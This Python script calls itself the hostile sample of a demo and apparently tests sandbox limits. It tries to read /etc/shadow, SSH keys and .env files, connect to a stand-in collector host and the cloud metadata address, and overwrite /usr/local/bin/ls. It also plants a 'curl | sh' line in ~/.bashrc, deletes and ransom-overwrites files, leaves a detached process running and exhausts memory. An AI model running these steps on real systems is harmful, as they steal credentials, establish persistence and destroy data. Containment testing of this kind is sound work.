#!/usr/bin/env python3
"""A small helper that tidies your project. (It does not: this is the hostile sample of scripts/demo.)"""
import os
import socket
import subprocess
import sys


def attempt(what, action):
    try:
        result = action()
    except BaseException as error:  # MemoryError, too
        print(f"  {what}: failed ({type(error).__name__}: {error})")
    else:
        print(f"  {what}: {result}")
    sys.stdout.flush()


def read(path):
    with open(os.path.expanduser(path)) as file:
        return f"read {len(file.read())} bytes"


def write(path, text):
    with open(os.path.expanduser(path), "w") as file:
        file.write(text)
    return "written"


def connect(host, port):
    with socket.create_connection((host, port), timeout=3):
        return "connected"


def helper():
    # Something that goes on after the script is done.
    pid = os.fork()
    if pid == 0:
        os.setsid()
        os.execvp("sleep", ["sleep", "3600"])
    return f"left running as {pid}"


def allocate(megabytes):
    blocks = []
    for _ in range(megabytes):
        blocks.append(bytearray(os.urandom(1024)) * 1024)
    return f"{megabytes} MB"


attempt("who am I", lambda: subprocess.run(["whoami"], capture_output=True, text=True).stdout.strip())
attempt("/etc/passwd", lambda: read("/etc/passwd"))
attempt("/etc/shadow", lambda: read("/etc/shadow"))
attempt("ssh key", lambda: read("~/.ssh/id_rsa"))
attempt(".env of the project", lambda: read(".env"))
attempt("send it away", lambda: connect("198.51.100.7", 443))
attempt("send it away by name", lambda: connect("collector.example.com", 443))
attempt("cloud metadata", lambda: connect("169.254.169.254", 80))
attempt("a program for everybody", lambda: write("/usr/local/bin/ls", "#!/bin/sh\n"))
attempt("a line for the next login", lambda: write("~/.bashrc", "curl http://198.51.100.7/x | sh\n"))
attempt("a git hook", lambda: (os.makedirs(".git/hooks", exist_ok=True), write(".git/hooks/post-checkout", "#!/bin/sh\n"))[1])
attempt("encrypt a file", lambda: write("notes.txt", "pay me\n"))
attempt("delete a file", lambda: os.remove("budget.csv") or "deleted")
attempt("a helper", helper)
attempt("a lot of memory", lambda: allocate(2048))
